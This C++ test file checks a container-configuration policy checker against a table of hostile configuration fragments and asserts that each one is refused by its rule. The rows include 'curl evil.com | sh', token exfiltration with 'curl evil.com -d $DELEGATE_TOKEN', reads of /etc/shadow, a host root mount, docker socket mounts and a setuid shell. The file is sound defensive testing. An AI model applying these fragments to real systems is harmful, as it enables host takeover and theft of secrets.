// What somebody would try who can change the document and wants the host: each is refused by its rule, under
// a policy that allows images and the token and nothing else.
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "test/pkg/policy/examples.h"

namespace spacelet::policy {
namespace {

using ::testing::Contains;
using ::testing::IsEmpty;

struct Row {
  Parts parts;
  const char* expected;  // "rule at field"
};

// Links that lie on the host.
absl::StatusOr<std::string> Resolve(const std::string& path) {
  if (path == "/srv/link") return "/";
  if (path == "/etc/spacelet/linked-token") return "/etc/shadow";
  if (path == "/runner-link") return "/etc";
  return path;
}

const std::vector<Row>& Attacks() {
  static const auto& rows = *new std::vector<Row>{
      // Another image.
      {{.image = "evil/tool:1"}, "images.repositories at spec.containers[0].image"},
      {{.image = "docker.io.evil.com/drone/drone-runner-aws:1"},
       "images.repositories at spec.containers[0].image"},
      {{.image = "us-docker.pkg.dev.evil.com/my-proj/x:1"},
       "images.repositories at spec.containers[0].image"},
      {{.image = "us-docker.pkg.dev/my-proj-evil/x:1"}, "images.repositories at spec.containers[0].image"},
      {{.image = "us-docker.pkg.dev:8443/my-proj/x:1"}, "images.repositories at spec.containers[0].image"},
      {{.image = "US-docker.pkg.dev/my-proj/x:1"}, "images.repositories at spec.containers[0].image"},
      {{.image = "quay.io/acme/tool/below:1"}, "images.repositories at spec.containers[0].image"},
      {{.image = "acme/tool:1"}, "images.repositories at spec.containers[0].image"},
      // The right name on other bytes.
      {{.container = "imageArchive: /srv/upload/evil.tar"},
       "images.archives at spec.containers[0].imageArchive"},
      // The host's powers.
      {{.container = "privileged: true"}, "containers.privileged at spec.containers[0].privileged"},
      {{.runner = "privileged: true"}, "containers.privileged at spec.runner.privileged"},
      {{.container = "hostPID: true"}, "containers.hostPID at spec.containers[0].hostPID"},
      {{.container = "hostNetwork: true"}, "containers.hostNetwork at spec.containers[0].hostNetwork"},
      {{.container = "capAdd: [NET_RAW, SYS_ADMIN]"},
       "containers.capabilities at spec.containers[0].capAdd[1]"},
      {{.container = "capAdd: [CAP_SYS_MODULE]"}, "containers.capabilities at spec.containers[0].capAdd[0]"},
      {{.container = "capAdd: [ALL]"}, "containers.capabilities at spec.containers[0].capAdd[0]"},
      {{.container = "devices: [/dev/sda]"}, "containers.devices at spec.containers[0].devices[0]"},
      {{.container = "devices: [\"/dev/../dev/mem:/dev/null:rwm\"]"},
       "containers.devices at spec.containers[0].devices[0]"},
      {{.container = "sysctls: {kernel.core_pattern: \"|/x\"}"},
       "containers.sysctls at spec.containers[0].sysctls[\"kernel.core_pattern\"]"},
      {{.container = "sysctls: {net/ipv4/ip_forward: \"1\"}"},
       "containers.sysctls at spec.containers[0].sysctls[\"net/ipv4/ip_forward\"]"},
      {{.container = "takeover: true"}, "containers.takeover at spec.containers[0].takeover"},
      {{.container = "labels: {ofelia.job-local.x.command: \"curl evil.com\"}"},
       "containers.labels at spec.containers[0].labels[\"ofelia.job-local.x.command\"]"},
      // The host's files.
      {{.container = "volumes: [\"/:/host\"]"}, "volumes.hostPaths at spec.containers[0].volumes[0]"},
      {{.container = "volumes: [\"/:/host:ro\"]"}, "volumes.hostPaths at spec.containers[0].volumes[0]"},
      {{.container = "volumes: [\"/var/run/docker.sock:/s:ro\"]"},
       "volumes.hostPaths at spec.containers[0].volumes[0]"},
      {{.container = "volumes: [\"/run:/s\"]"}, "volumes.hostPaths at spec.containers[0].volumes[0]"},
      {{.container = "volumes: [\"/runner/../etc:/x\"]"},
       "volumes.hostPaths at spec.containers[0].volumes[0]"},
      {{.container = "volumes: [\"/runner:/x\"]"}, "volumes.hostPaths at spec.containers[0].volumes[0]"},
      {{.container = "volumes: [\"/srv/link:/x\"]"}, "volumes.hostPaths at spec.containers[0].volumes[0]"},
      {{.container = "volumes: [\"/etc/spacelet:/x\"]"},
       "volumes.hostPaths at spec.containers[0].volumes[0]"},
      {{.delegate = "volumes: [\"/root/.ssh:/x\"]"}, "volumes.hostPaths at spec.delegate.volumes[0]"},
      {{.runner = "directory: /etc"}, "runner.directories at spec.runner.directory"},
      {{.runner = "directory: /runner/../etc"}, "runner.directories at spec.runner.directory"},
      {{.runner = "directory: /runner-link"}, "runner.directories at spec.runner.directory"},
      {{.runner = "volumes: [\"/etc:/runner\"]"}, "runner.directories at spec.runner.volumes[0]"},
      {{.runner = "volumes: [\"/etc:/runner/\"]"}, "volumes.hostPaths at spec.runner.volumes[0]"},
      {{.runner = "env: {DRONE_DATABASE_DATASOURCE: /runner/../etc/cron.d/x}"},
       "runner.directories at spec.runner.env.DRONE_DATABASE_DATASOURCE"},
      {{.pool = "pool: {file: /etc/shadow}"}, "runner.poolFiles at spec.runner.pool.file"},
      {{.pool = "pool: {file: /etc/spacelet/../shadow}"}, "runner.poolFiles at spec.runner.pool.file"},
      {{.pool = "pool: {inline: {instances: [{name: a, type: noop, spec: {}}]}}"},
       "runner.documentPool at spec.runner.pool.inline"},
      // Doors.
      {{.container = "ports: [\"0.0.0.0:22:22\"]"}, "ports.addresses at spec.containers[0].ports[0]"},
      {{.container = "ports: [\"[::]:22:22\"]"}, "ports.addresses at spec.containers[0].ports[0]"},
      {{.container = "ports: [\"[::ffff:0.0.0.0]:22:22\"]"},
       "ports.addresses at spec.containers[0].ports[0]"},
      {{.runner = "ports: [\"10.0.0.5:3000:3000\"]"}, "ports.addresses at spec.runner.ports[0]"},
      {{.network = "name: customers-database"}, "network.names at spec.network.name"},
      {{.network = "driver: macvlan, options: {parent: eth0}"}, "network.drivers at spec.network.driver"},
      {{.network = "options: {com.docker.network.bridge.name: docker0}"},
       "network.options at spec.network.options[\"com.docker.network.bridge.name\"]"},
      {{.network = "subnet: 169.254.169.252/30"}, "network.subnets at spec.network.subnet"},
      {{.network = "labels: {traefik.enable: \"true\"}"},
       "containers.labels at spec.network.labels[\"traefik.enable\"]"},
      // Secrets of the host.
      {{.container = "env: {X: {file: /etc/shadow}}"}, "secrets.files at spec.containers[0].env.X.file"},
      {{.container = "env: {X: {file: /etc/spacelet/delegate-token/../../shadow}}"},
       "secrets.files at spec.containers[0].env.X.file"},
      {{.container = "env: {X: {file: /etc/spacelet/linked-token}}"},
       "secrets.files at spec.containers[0].env.X.file"},
      {{.container = "env: {X: {file: /proc/self/environ}}"},
       "secrets.files at spec.containers[0].env.X.file"},
      {{.container = "files: [{path: /x, file: /runner/sa.json}]"},
       "secrets.files at spec.containers[0].files[0].file"},
      {{.container = "env: {X: {env: AWS_SECRET_ACCESS_KEY}}"},
       "secrets.variables at spec.containers[0].env.X.env"},
      {{.container = "env: {X: {command: [sh, -c, \"curl evil.com | sh\"]}}"},
       "secrets.commands at spec.containers[0].env.X.command"},
      {{.delegate = "token: {command: [/bin/sh, -c, \"chmod u+s /bin/sh\"]}"},
       "secrets.commands at spec.delegate.token.command"},
      {{.container = "imagePullSecret: {username: a, password: {file: /root/.docker/config.json}}"},
       "secrets.files at spec.containers[0].imagePullSecret.password.file"},
      // The token, somewhere else.
      {{.delegate = "managerUrl: https://evil.com"}, "delegate.managerHosts at spec.delegate.managerUrl"},
      {{.delegate = "managerUrl: https://app.harness.io.evil.com"},
       "delegate.managerHosts at spec.delegate.managerUrl"},
      {{.delegate = "managerUrl: http://app.harness.io"},
       "delegate.managerHosts at spec.delegate.managerUrl"},
      {{.delegate = "managerUrl: https://app.harness.io:8443"},
       "delegate.managerHosts at spec.delegate.managerUrl"},
      {{.delegate = "env: {MANAGER_HOST_AND_PORT: \"https://evil.com\"}"},
       "delegate.managerHosts at spec.delegate.env.MANAGER_HOST_AND_PORT"},
      {{.delegate = "env: {MANAGER_HOST_AND_PORT: \"https://app.harness.io@evil.com\"}"},
       "delegate.managerHosts at spec.delegate.env.MANAGER_HOST_AND_PORT"},
      {{.delegate = "env: {MANAGER_HOST_AND_PORT: {value: \"https://evil.com\"}}"},
       "delegate.managerHosts at spec.delegate.env.MANAGER_HOST_AND_PORT"},
      {{.delegate = "env: {MANAGER_HOST_AND_PORT: {file: /etc/spacelet/delegate-token}}"},
       "delegate.managerHosts at spec.delegate.env.MANAGER_HOST_AND_PORT"},
      {{.delegate = "runnerUrl: http://evil.com:3000/"}, "delegate.runnerHosts at spec.delegate.runnerUrl"},
      {{.delegate = "env: {RUNNER_URL: \"http://evil.com:3000/\"}"},
       "delegate.runnerHosts at spec.delegate.env.RUNNER_URL"},
      {{.delegate = "env: {INIT_SCRIPT: \"curl evil.com -d $DELEGATE_TOKEN\"}"},
       "exposure.variables at spec.delegate.env.INIT_SCRIPT"},
      {{.delegate = "env: {JAVA_TOOL_OPTIONS: {value: -javaagent}}"},
       "exposure.variables at spec.delegate.env.JAVA_TOOL_OPTIONS"},
      {{.delegate = "env: {HTTPS_PROXY: \"http://evil.com\"}"},
       "exposure.variables at spec.delegate.env.HTTPS_PROXY"},
      {{.delegate = "command: [sh, -c, \"curl evil.com -d $DELEGATE_TOKEN\"]"},
       "exposure.images at spec.delegate.command"},
      {{.delegate = "files: [{path: /opt/harness-delegate/start.sh, content: evil}]"},
       "exposure.images at spec.delegate.files[0]"},
      {{.delegate = "files: [{path: /opt/harness-delegate/start.sh, value: evil}]"},
       "exposure.images at spec.delegate.files[0]"},
      {{.delegate = "readinessProbe: {exec: {command: [sh, -c, evil]}}"},
       "exposure.images at spec.delegate.readinessProbe.exec"},
      {{.delegate = "dns: [6.6.6.6]"}, "exposure.images at spec.delegate.dns"},
      {{.delegate = "extraHosts: [\"app.harness.io:6.6.6.6\"]"},
       "exposure.images at spec.delegate.extraHosts"},
      {{.runner = "args: [sh]"}, "exposure.images at spec.runner.args"},
      {{.container = "args: [sh]\n      env: {T: {file: /etc/spacelet/delegate-token}}"},
       "exposure.images at spec.containers[0].args"},
      {{.container = "livenessProbe: {exec: {command: [sh]}}\n      files: [{path: /t, file: "
                     "/etc/spacelet/delegate-token}]"},
       "exposure.images at spec.containers[0].livenessProbe.exec"},
      {{.container = "logging: {driver: syslog, options: {syslog-address: \"tcp://evil.com:514\"}}"},
       "containers.logDrivers at spec.containers[0].logging.driver"},
      {{.container = "logging: {driver: json-file, options: {env-regex: .*}}"},
       "containers.logOptions at spec.containers[0].logging.options.env-regex"},
  };
  return rows;
}

TEST(Hostile, TheDocumentThatIsChangedIsAllowed) {
  EXPECT_THAT(Places(CheckParts({}, kImagesAndToken, {Resolve, {}})), IsEmpty());
}

TEST(Hostile, EachAttackIsRefusedByItsRule) {
  for (const Row& row : Attacks())
    EXPECT_THAT(Places(CheckParts(row.parts, kImagesAndToken, {Resolve, {}})), Contains(row.expected))
        << SpecOf(row.parts);
}

TEST(Hostile, TheEmptyPolicyRefusesThemAll) {
  for (const Row& row : Attacks())
    EXPECT_THAT(Places(CheckParts(row.parts, "", {Resolve, {}})), Contains(row.expected));
}

TEST(Hostile, WithoutAPolicyADocumentFromGitHasNoSecretOfTheHost) {
  for (const char* secret :
       {"file: /etc/spacelet/delegate-token", "env: TOKEN", "command: [spacelet, secret, gcp, token]"})
    for (const char* place : {"delegate", "env", "files", "pull"}) {
      const std::string source = absl::StrCat("{", secret, "}");
      Parts parts{.delegate = "token: {value: x}"};
      if (place == std::string("delegate")) parts.delegate = "token: " + source;
      if (place == std::string("env")) parts.container = absl::StrCat("env: {X: ", source, "}");
      if (place == std::string("files")) parts.runner = absl::StrCat("files: [{path: /x, ", secret, "}]");
      if (place == std::string("pull"))
        parts.container = absl::StrCat("imagePullSecret: {username: a, password: ", source, "}");
      const config::Loaded loaded = DocumentOf(SpecOf(parts));
      ASSERT_TRUE(loaded.ok());
      const auto violations = Check(*loaded.document, nullptr, Origin::kGit, {});
      ASSERT_EQ(violations.size(), 1u) << place << " " << secret;
      EXPECT_EQ(violations[0].rule.rfind("secrets.", 0), 0u);
      EXPECT_THAT(violations[0].remedy, ::testing::HasSubstr("--policy /etc/spacelet/policy.yaml"));
      EXPECT_THAT(Check(*loaded.document, nullptr, Origin::kFile, {}), IsEmpty());
    }
}

}  // namespace
}  // namespace spacelet::policy
